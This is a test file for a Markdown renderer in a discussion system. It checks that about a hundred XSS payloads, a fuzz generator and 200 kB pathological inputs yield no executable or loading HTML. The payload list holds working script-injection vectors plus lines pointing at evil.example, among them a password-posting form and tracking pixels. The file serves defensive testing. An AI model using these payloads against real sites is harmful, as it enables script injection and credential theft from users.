import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { renderMarkdown } from "../../../lib/discussion/markdown";
import { dangersIn } from "./tags-in";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\u0000>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" />',
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{background:url(https://evil.example)}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">over all</div>',
  '<form action="https://evil.example"><input name=password></form>',
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo '<script>alert(1)</script>' ?>",
  "</p><script>alert(1)</script><p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](java&#9;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](javascript&NewLine;:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "[x](\\\\evil.example)",
  "[x](https:evil.example)",
  "[x](blob:https://evil.example/1)",
  "[x](view-source:javascript:alert(1))",
  "<javascript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "[x]\n\n[x]: javascript:alert(1)",
  "[x][y]\n\n[y]: data:text/html,x 'onclick=alert(1)'",
  "![x](javascript:alert(1))",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](/\\evil.example/pixel.png)",
  '![" onerror="alert(1)](/x.png)',
  '![x](/x.png" onerror="alert(1))',
  "![x](/x.png '\" onerror=\"alert(1)')",
  '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
  "[x](https://example.org'onmouseover='alert(1))",
  'https://example.org/"onmouseover="alert(1)',
  "https://example.org/<script>alert(1)</script>",
  '```"><script>alert(1)</script>\nx\n```',
  '```x" onclick="alert(1)\nx\n```',
  "```js onclick=alert(1)\nx\n```",
  "~~~<img src=x onerror=alert(1)>\nx\n~~~",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  '@amara" onclick="alert(1)',
  "@<script>alert(1)</script>",
  '#63"onclick=alert(1)',
  "# <script>alert(1)</script>",
  "- [x] <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "\u2028<script>alert(1)</script>\u2029",
  "＜script＞alert(1)＜/script＞",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "[<img src=x onerror=alert(1)>](https://example.org)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "mailto:a@example.org?subject=<script>alert(1)</script>",
  '<a@example.org"onclick="alert(1)>',
];

describe("what somebody writes cannot act in another person's browser", () => {
  test.each(HOSTILE)("%j leaves nothing that runs, loads or leads astray", (source) => {
    expect(dangersIn(renderMarkdown(source))).toEqual([]);
  });

  it.each([
    '<img src="/x" onerror="a()">',
    '<a href="java&#9;script:a()">',
    "<SVG/onload=a()>",
    '<p style="top:0">',
  ])("the reader of these tests would notice %s", (html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });

  it("HTML that somebody typed is shown to the readers as they typed it", () => {
    expect(renderMarkdown("<script>alert(1)</script>")).toBe("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
  });

  it("a text made of any pieces holds no script, no event attribute and no script address", () => {
    fc.assert(
      fc.property(fc.oneof(anyText, fc.string({ unit: "binary", maxLength: 300 })), (source) => {
        const html = renderMarkdown(source);
        expect(html).not.toMatch(/<script/i);
        expect(dangersIn(html)).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });
});

const PIECES = [
  ..."<>\"'`()[]!&;:/\\=#@*_~|-+. \n\t\u0000",
  ...[
    "script",
    "<img src=x",
    " onerror=alert(1)",
    "javascript:",
    "data:text/html,",
    "](",
    "![",
    "[a]: ",
    "```",
  ],
  ...[
    "https://",
    "//e.example",
    "&#x6A;",
    "&colon;",
    "</p>",
    "style=",
    "<!--",
    "-->",
    "\n\n",
    "    ",
    "a@b.org",
  ],
];
const anyText = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join(""));

/** Each is about 200 kB of the shape that once made some Markdown parser hang. */
const LARGE: [string, string][] = [
  ["quote marks", ">".repeat(200_000)],
  ["opening brackets", "[".repeat(200_000)],
  ["unfinished links", "[a](".repeat(50_000)],
  ["unfinished images", "![".repeat(100_000)],
  ["crossing emphasis", "*a_ ".repeat(50_000)],
  ["backticks of every length", Array.from({ length: 600 }, (_, length) => "`".repeat(length)).join("a ")],
  ["list in list in list", "- ".repeat(100_000)],
  ["lists ever deeper", Array.from({ length: 600 }, (_, depth) => `${" ".repeat(depth)}- a`).join("\n")],
  ["one long address used everywhere", `[x]: http://e.org/${"a".repeat(1900)}\n\n${"[x]".repeat(66_000)}`],
  ["a table of empty cells", `|${"a|".repeat(5000)}\n|${"-|".repeat(5000)}\n${"|a\n".repeat(50_000)}`],
  ["angle brackets", "<".repeat(200_000)],
  ["mentions", "@a ".repeat(66_000)],
  ["mentions without an end", "@a.".repeat(66_000)],
  ["addresses", "http://a.b ".repeat(18_000)],
  ["mail addresses", "a@b.c".repeat(40_000)],
  ["blank lines", "\n".repeat(200_000)],
  ["one word", "a".repeat(200_000)],
  ["a long honest text", "Lorem ipsum @amara #63 [x](https://e.org) **b** `c`\n\n".repeat(3800)],
];

describe("a text of 200 kB", () => {
  // A parser that hangs runs into the time limit that every test has.
  test.each(LARGE)("made of %s is rendered, and does not grow to megabytes", (_, source) => {
    expect(renderMarkdown(source).length).toBeLessThan(2_000_000);
  });
});
